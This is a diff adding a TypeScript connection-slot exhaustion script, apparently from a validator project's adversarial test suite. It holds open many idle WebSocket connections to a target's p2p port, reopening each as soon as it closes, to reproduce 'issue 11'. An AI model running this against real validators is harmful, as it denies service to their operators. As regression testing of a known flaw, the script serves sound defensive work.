@@ -1,0 +1,77 @@
+/**
+ * Slot exhaustion (issue 11): holds COUNT idle WebSocket connections to a validator's p2p port from one source
+ * address, reopening each one REOPEN_MS after it closed (refused at the upgrade, or dropped by the handshake timeout),
+ * and never sends a byte after the upgrade.
+ *
+ *   node dist/test/adversarial/attacks/slots.js BIND_HOST TARGET_HOST TARGET_PORT COUNT DURATION_MS
+ *
+ * Prints `started` once every connection has been tried once, then, every second and when it ends (after
+ * DURATION_MS or on SIGTERM), one JSON line `{"open":…,"upgraded":…,"refused":…,"closed":…}` (upgraded: connections
+ * the server accepted; refused: upgrades answered with an HTTP status instead).
+ */
+import WebSocket from "ws";
+
+/** Reopen delay: the issue's attack reopened as the server closed; a refusal at the upgrade comes back at once. */
+const REOPEN_MS = 100;
+
+const [bindHost, targetHost, portArg, countArg, durationArg] = process.argv.slice(2);
+if (bindHost === undefined || targetHost === undefined || portArg === undefined || countArg === undefined || durationArg === undefined) {
+  process.stderr.write("usage: slots.js BIND_HOST TARGET_HOST TARGET_PORT COUNT DURATION_MS\n");
+  process.exit(2);
+}
+const url = `ws://${targetHost}:${Number(portArg)}/quire/link`;
+const count = Number(countArg);
+const stats = { open: 0, upgraded: 0, refused: 0, closed: 0 };
+let stopping = false;
+const sockets = new Set<WebSocket>();
+
+function openOne(): void {
+  if (stopping) return;
+  const ws = new WebSocket(url, { localAddress: bindHost, handshakeTimeout: 10_000, perMessageDeflate: false });
+  sockets.add(ws);
+  let wasOpen = false;
+  let ended = false;
+  // Exactly once per connection, however it ended: refused at the upgrade (ws then emits no "close"), or closed.
+  const ended_ = (): void => {
+    if (ended) return;
+    ended = true;
+    sockets.delete(ws);
+    if (wasOpen) stats.open--;
+    stats.closed++;
+    if (!stopping) setTimeout(openOne, REOPEN_MS);
+  };
+  ws.on("open", () => {
+    wasOpen = true;
+    stats.open++;
+    stats.upgraded++;
+  });
+  ws.on("unexpected-response", (req, res) => {
+    stats.refused++;
+    res.resume();
+    req.destroy();
+    ended_();
+  });
+  ws.on("message", () => {}); // the listener's challenge: ignored, we stay silent
+  ws.on("error", ended_);
+  ws.on("close", ended_);
+}
+
+function report(): void {
+  process.stdout.write(JSON.stringify(stats) + "\n");
+}
+
+function stop(): void {
+  if (stopping) return;
+  stopping = true;
+  clearInterval(ticker);
+  report();
+  for (const ws of sockets) ws.terminate();
+  setTimeout(() => process.exit(0), 200).unref();
+}
+
+for (let i = 0; i < count; i++) openOne();
+process.stdout.write("started\n");
+const ticker = setInterval(report, 1_000);
+setTimeout(stop, Number(durationArg)).unref();
+process.on("SIGTERM", stop);
+process.on("SIGINT", stop);
